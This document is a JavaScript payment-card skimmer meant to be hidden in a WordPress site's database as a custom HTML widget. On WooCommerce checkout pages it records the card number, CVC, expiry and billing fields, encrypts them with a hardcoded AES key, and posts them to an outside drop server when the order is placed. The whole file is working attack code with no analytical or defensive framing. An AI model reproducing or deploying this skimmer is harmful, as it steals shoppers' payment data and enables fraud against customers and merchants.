// Stored in the WordPress database (the "widget_block" row of wp_options, a custom HTML
// widget printed on every page), so no theme or plugin file changes. On checkout pages
// (not the cart) it takes over the card fields the payment plugin already drew: every
// change is recorded, and on "Place order" the card and billing fields are encrypted with
// AES-CBC under a key and IV in the script, base64-encoded and posted to the drop host.
(function () {
  var u = location.href;
  if (u.indexOf("checkout") === -1 || u.indexOf("cart") !== -1) return;
  var K = "9f3b1c7e5a2d8f60", IV = "c41e7a0b93d25f68", G = "https://valha-cdn.invalid/cc/log.php";
  var got = {};
  function enc(txt) {
    var te = new TextEncoder();
    return crypto.subtle.importKey("raw", te.encode(K), { name: "AES-CBC" }, false, ["encrypt"])
      .then(function (k) { return crypto.subtle.encrypt({ name: "AES-CBC", iv: te.encode(IV) }, k, te.encode(txt)); })
      .then(function (b) { return btoa(String.fromCharCode.apply(null, new Uint8Array(b))); });
  }
  function watch() {
    var sel = "input[name*='card'], input[id*='cc-'], input[name*='cvc'], input[name*='expir'], input[name^='billing_']";
    document.querySelectorAll(sel).forEach(function (i) {
      if (i.dataset.w) return;
      i.dataset.w = "1";
      i.addEventListener("change", function () { got[i.name || i.id] = i.value; });
    });
  }
  setInterval(watch, 1000);
  document.addEventListener("click", function (e) {
    if (!e.target.closest("#place_order, button[name='woocommerce_checkout_place_order']")) return;
    watch();
    document.querySelectorAll("input[name^='billing_']").forEach(function (i) { got[i.name] = i.value; });
    var n = Object.keys(got).filter(function (k) { return /card|cc-/.test(k); }).length;
    if (!n) return;
    got.site = location.hostname;
    enc(JSON.stringify(got)).then(function (d) {
      var x = new XMLHttpRequest();
      x.open("POST", G, true);
      x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
      x.send("data=" + encodeURIComponent(d));
    });
  }, true);
})();
